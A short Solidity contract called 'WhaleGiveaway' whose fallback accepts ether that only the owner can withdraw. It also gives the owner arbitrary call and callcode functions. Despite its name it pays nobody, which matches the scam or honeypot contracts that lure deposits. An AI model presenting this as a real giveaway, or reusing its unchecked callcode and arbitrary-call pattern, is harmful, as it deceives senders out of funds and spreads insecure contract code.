pragma solidity ^0.4.19;

contract WhaleGiveaway {
    address public Owner = msg.sender;

    function() public payable {}

    function Command(address adr, bytes data) payable public {
        require(msg.sender == Owner);
        adr.call.value(msg.value)(data);
    }

    function withdraw() payable public {
        if (msg.sender == Owner) {
            Owner.transfer(this.balance);
        }
    }

    function forward(address adr, bytes data) public {
        require(msg.sender == Owner);
        require(adr.call(data));
    }

    function callcodeIt(address adr) public {
        require(msg.sender == Owner);
        adr.callcode(bytes4(keccak256("f()")));
    }
}
